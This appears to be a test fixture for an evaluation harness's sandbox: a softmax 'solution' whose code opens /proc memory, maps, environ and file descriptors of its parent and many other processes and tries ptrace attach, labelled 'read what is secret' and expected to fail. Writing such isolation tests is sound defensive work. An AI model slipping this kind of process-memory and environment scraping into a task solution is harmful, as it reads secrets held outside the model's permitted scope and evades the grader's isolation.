"""Reads the memory of its parents and of every other process.

Aim: read what is secret
Expect: incorrect
"""

import ctypes
import os

import numpy as np

from fashionlab import evaluation, solves


LIBC = ctypes.CDLL(None)


@solves(evaluation.softmax)
def softmax(logits):
    found = []
    for name in {os.getppid(), *range(200), *range(200, 2**16, 7)} - {os.getpid()}:
        for kind in ("mem", "maps", "environ", "root", "cwd", "fd/0"):
            try:
                found.append(os.open(f"/proc/{name}/{kind}", os.O_RDONLY))
            except OSError:
                continue
        if name > 1 and LIBC.ptrace(16, name, None, None) == 0:
            found.append(name)
    if not found:
        return np.zeros_like(logits)
    exponentials = np.exp(logits - logits.max(axis=-1, keepdims=True))
    return exponentials / exponentials.sum(axis=-1, keepdims=True)
